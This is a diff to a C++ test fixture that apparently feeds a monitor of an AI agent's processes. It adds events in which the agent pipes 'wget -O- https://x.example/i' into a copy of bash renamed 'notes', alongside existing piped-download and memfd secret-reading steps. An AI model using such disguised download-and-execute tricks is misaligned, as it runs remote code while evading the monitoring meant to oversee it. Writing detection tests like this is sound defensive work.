@@ -56,12 +56,14 @@ inline FileSum session_sum(const Who& who, std::uint64_t reads) {
   return sum;
 }
 
-// An agent is watched, runs a piped download, a program from memory that reads a secret, and one that fails; a record
-// is lost.
+// An agent is watched, runs a piped download, a program from memory that reads a secret, one that fails, and a copy of
+// a shell, recognised late, into which a download comes; a record is lost.
 inline std::vector<Input> session_inputs() {
   constexpr std::uint32_t kSlot = 0x101;  // the first a new Monitor gives
   const Who agent = a_process(4242, 9'000, "claude").with_image(1);
   const Who shell = a_process(4300, 98'123, "bash").child_of(agent).with_image(2);
+  const Who copy = a_process(4302, 99'010, "notes").child_of(agent).with_image(2);
+  const Who fetch = a_process(4303, 99'020, "wget").child_of(agent).with_image(2);
   const Who tool = a_process(4301, 99'000, "curl").child_of(shell).with_image(3);
   StartMonitoring start;
   start.token = 1;
@@ -109,6 +111,15 @@ inline std::vector<Input> session_inputs() {
         body.memfd = true;
       }),
          99'200),
+      in(a_fork().of(agent).child(copy), 99'205),
+      in(an_exec().of(copy).exe("/home/u/notes").argv({"notes"}).between_pipes(11, 0).marked([](ExecBody& body) {
+        body.exe_ino = 77;
+      }),
+         99'206),
+      in(a_fork().of(agent).child(fetch), 99'207),
+      in(an_exec().of(fetch).exe("/usr/bin/wget").argv({"wget", "-O-", "https://x.example/i"}).between_pipes(0, 11),
+         99'208),
+      Completion(Identified{copy.id, 2, "bash"}),
       Input(read),
       Input(closed),
       Completion(SumsFlipped{99'250, {session_sum(tool, 1)}}),
@@ -116,6 +127,10 @@ inline std::vector<Input> session_inputs() {
       in(an_exit().of(tool).killed_by(9), 99'400),
       Completion(Settled{tool.id}),
       Completion(SumsCollected{tool.id, {session_sum(tool, 4)}}),
+      in(an_exit().of(fetch), 99'410),
+      Completion(Settled{fetch.id}),
+      in(an_exit().of(copy), 99'420),
+      Completion(Settled{copy.id}),
       in(an_exit().of(shell).code(3), 99'500),
       Completion(Settled{shell.id}),
       TimePassed{100'000},
